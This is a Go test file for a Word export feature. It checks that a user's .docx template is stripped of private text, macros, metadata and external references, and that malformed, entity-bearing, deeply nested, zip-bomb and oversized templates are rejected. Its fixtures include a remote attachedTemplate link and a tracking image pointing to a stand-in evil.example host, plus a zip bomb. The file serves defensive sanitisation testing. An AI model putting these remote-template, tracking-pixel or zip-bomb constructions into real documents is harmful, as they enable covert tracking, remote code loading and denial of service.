package word_test

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"image"
	"image/png"
	"slices"
	"strings"
	"testing"

	"followup/app/compose"
	"followup/app/layout/layouttest"
	"followup/export/word"
)

const wordSpace = ` xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`

func packed(t testing.TB, parts map[string]string) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for name, data := range parts {
		f, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write([]byte(data)); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func letterhead(t testing.TB) string {
	t.Helper()
	var out bytes.Buffer
	if err := png.Encode(&out, image.NewGray(image.Rect(0, 0, 40, 10))); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// hostile is an agency's template with everything that must not come along.
func hostile(t testing.TB) map[string]string {
	const relations = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	const kind = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/`
	return map[string]string{
		"[Content_Types].xml": `<Types/>`,
		"word/document.xml":   `<w:document` + wordSpace + `><w:body><w:p><w:r><w:t>PRIVATE TEXT</w:t></w:r></w:p></w:body></w:document>`,
		"word/_rels/document.xml.rels": relations +
			`<Relationship Id="r1" Type="` + kind + `styles" Target="styles.xml"/>` +
			`<Relationship Id="r2" Type="` + kind + `attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>` +
			`<Relationship Id="r3" Type="` + kind + `header" Target="header1.xml"/>` +
			`<Relationship Id="r4" Type="` + kind + `numbering" Target="/word/numbering.xml"/>` +
			`<Relationship Id="r5" Type="` + kind + `theme" Target="theme/theme1.xml"/></Relationships>`,
		"word/styles.xml": `<w:styles` + wordSpace + ` xmlns:x="urn:evil"><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Verdana"/></w:rPr></w:rPrDefault></w:docDefaults>` +
			`<w:latentStyles w:count="1"/><x:evil>PRIVATE</x:evil>` +
			`<w:style w:type="paragraph" w:customStyle="1" w:styleId="CabStandard"><w:name w:val="CabStandard"/><w:rsid w:val="00PRIVATE"/><w:pPr><w:numPr><w:numId w:val="9"/></w:numPr><w:spacing w:after="222"/></w:pPr></w:style>` +
			`<w:style w:type="paragraph" w:styleId="Heading1" x:by="PRIVATE" w:rsidR="PRIVATE"><w:name w:val="heading 1"/></w:style></w:styles>`,
		"word/numbering.xml": `<w:numbering` + wordSpace + `><w:numPicBullet w:numPicBulletId="0"><w:pict r:id="r99"/></w:numPicBullet>` +
			`<w:abstractNum w:abstractNumId="4"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:pStyle w:val="CabStandard"/><w:lvlText w:val="%1)"/></w:lvl></w:abstractNum>` +
			`<w:num w:numId="9"><w:abstractNumId w:val="4"/></w:num></w:numbering>`,
		"word/theme/theme1.xml": `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="PRIVATE-FREE"><a:themeElements/><a:extLst><a:ext uri="x"/></a:extLst></a:theme>`,
		"word/header1.xml": `<w:hdr` + wordSpace + ` xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:p><w:r><w:t>PRIVATE HEADER</w:t></w:r><w:r><w:drawing><a:blip r:embed="p1"/></w:drawing></w:r>` +
			`<w:r><w:drawing><a:blip r:embed="p2"/></w:drawing></w:r></w:p></w:hdr>`,
		"word/_rels/header1.xml.rels": relations + `<Relationship Id="p1" Type="` + kind + `image" Target="media/image1.png"/>` +
			`<Relationship Id="p2" Type="` + kind + `image" Target="http://evil.example/track.png" TargetMode="External"/></Relationships>`,
		"word/media/image1.png": letterhead(t) + "PRIVATE behind the picture",
		"word/vbaProject.bin":   "PRIVATE MACRO",
		"docProps/core.xml":     `<x>PRIVATE AUTHOR</x>`,
		"customXml/item1.xml":   `<x>PRIVATE CUSTOM</x>`,
	}
}

func TestTemplateIsTakenWithoutWhatIsPrivate(t *testing.T) {
	parts := build(t, small(compose.Ordinary), packed(t, hostile(t)))
	sound(t, parts)
	for name, part := range parts {
		for _, never := range []string{"PRIVATE TEXT", "PRIVATE HEADER", "00PRIVATE", "PRIVATE MACRO", "PRIVATE AUTHOR", "PRIVATE CUSTOM", "evil", "PRIVATE behind", "x:by", "rsid", "numPicBullet"} {
			if strings.Contains(part, never) {
				t.Errorf("%s holds %q", name, never)
			}
		}
		if strings.Contains(name, "vba") || strings.Contains(name, "customXml") {
			t.Errorf("the part %s came along", name)
		}
	}
	styles := parts["word/styles.xml"]
	for _, want := range []string{`w:ascii="Verdana"`, `w:after="222"`, `w:styleId="CabRec"`} {
		if !strings.Contains(styles, want) {
			t.Errorf("the styles lack %s", want)
		}
	}
	if strings.Count(styles, `w:styleId="CabStandard"`) != 1 {
		t.Error("CabStandard stands more than once")
	}
	if !strings.Contains(styles, `w:styleId="CabStandard2"><w:name w:val="CabStandard2"/><w:basedOn w:val="Normal"/><w:qFormat/><w:pPr><w:numPr><w:ilvl w:val="1"/><w:numId w:val="9"/>`) {
		t.Error("sub-paragraphs are not numbered in the template's list")
	}
	if !strings.Contains(parts["word/numbering.xml"], `w:val="%1)"`) {
		t.Error("the template's numbering is not there")
	}
	if !strings.Contains(parts["word/header.xml"], `r:embed="rIdPicture1"`) || strings.Contains(parts["word/header.xml"], "rIdPicture2") {
		t.Error("the letterhead is not in the header, or the picture from elsewhere is")
	}
}

func TestMissingStylesAreNamed(t *testing.T) {
	missing, err := word.MissingStyles(packed(t, hostile(t)))
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(missing, "CabRec") || slices.Contains(missing, "CabStandard") || slices.Contains(missing, "heading 1") {
		t.Errorf("missing %q", missing)
	}
}

func TestTemplatesThatAreRefused(t *testing.T) {
	styles := hostile(t)["word/styles.xml"]
	bomb := packed(t, map[string]string{"word/styles.xml": `<w:styles` + wordSpace + `>` + strings.Repeat(" ", 9<<20) + `</w:styles>`})
	for name, c := range map[string]struct {
		data []byte
		says string
	}{
		"no zip":        {[]byte("Dear Minister"), "not a Word document"},
		"old format":    {[]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1}, "without a password"},
		"no styles":     {packed(t, map[string]string{"word/document.xml": "<x/>"}), "not a Word document"},
		"broken":        {packed(t, map[string]string{"word/styles.xml": styles[:200]}), "damaged"},
		"document type": {packed(t, map[string]string{"word/styles.xml": `<!DOCTYPE x [<!ENTITY a "b">]>` + styles}), "damaged"},
		"deep":          {packed(t, map[string]string{"word/styles.xml": strings.Repeat("<a>", 5000)}), "damaged"},
		"bomb":          {bomb, "too large"},
		"large":         {make([]byte, 21<<20), "at most 20 MB"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := word.Build(small(compose.Ordinary), word.Options{Template: c.data})
			if err == nil || !strings.Contains(err.Error(), c.says) {
				t.Errorf("error %v, want one that says %q", err, c.says)
			}
		})
	}
}

// Word in other languages has other ids for its styles; their names are the same.
func TestStylesAreFoundByName(t *testing.T) {
	parts := hostile(t)
	parts["word/styles.xml"] = `<w:styles` + wordSpace + `><w:style w:type="paragraph" w:default="1" w:styleId="Standard"><w:name w:val="Normal"/></w:style>` +
		`<w:style w:type="paragraph" w:styleId="berschrift1"><w:name w:val="Heading 1"/><w:basedOn w:val="Standard"/><w:pPr><w:spacing w:after="333"/></w:pPr></w:style></w:styles>`
	template := packed(t, parts)
	styles := build(t, small(compose.Ordinary), template)["word/styles.xml"]
	for _, want := range []string{`w:styleId="Normal"><w:name`, `w:styleId="Heading1"><w:name w:val="Heading 1"></w:name><w:basedOn w:val="Normal">`} {
		if !strings.Contains(styles, want) {
			t.Errorf("the styles lack %s", want)
		}
	}
	if strings.Count(styles, `w:default="1"`) != 1 || strings.Contains(styles, "berschrift") {
		t.Error("the styles have two defaults, or keep the other id")
	}
	missing, err := word.MissingStyles(template)
	if err != nil || slices.Contains(missing, "heading 1") || !slices.Contains(missing, "heading 2") {
		t.Errorf("missing %q, %v", missing, err)
	}
}

// A file of ours is a template too, and gives the same body.
func TestOwnFileAsTemplate(t *testing.T) {
	doc := layouttest.Paper(2)
	first, err := word.Build(doc, word.Options{Saved: saved})
	if err != nil {
		t.Fatal(err)
	}
	if missing, err := word.MissingStyles(first); err != nil || len(missing) > 0 {
		t.Errorf("missing %q, %v", missing, err)
	}
	parts := build(t, doc, first)
	sound(t, parts)
	if parts["word/document.xml"] != unpack(t, first)["word/document.xml"] {
		t.Error("the body differs")
	}
}

func FuzzTemplate(f *testing.F) {
	f.Add(packed(f, hostile(f)))
	own, err := word.Build(small(compose.Ordinary), word.Options{})
	if err != nil {
		f.Fatal(err)
	}
	f.Add(own)
	empty, err := base64.StdEncoding.DecodeString("UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==")
	if err != nil {
		f.Fatal(err)
	}
	f.Add(empty)
	doc := small(compose.Ordinary)
	f.Fuzz(func(t *testing.T, data []byte) {
		built, err := word.Build(doc, word.Options{Template: data})
		if err != nil {
			return
		}
		parts := unpack(t, built)
		for _, name := range []string{"word/styles.xml", "word/numbering.xml", "word/document.xml", "word/fontTable.xml"} {
			textOf(t, parts[name])
		}
	})
}
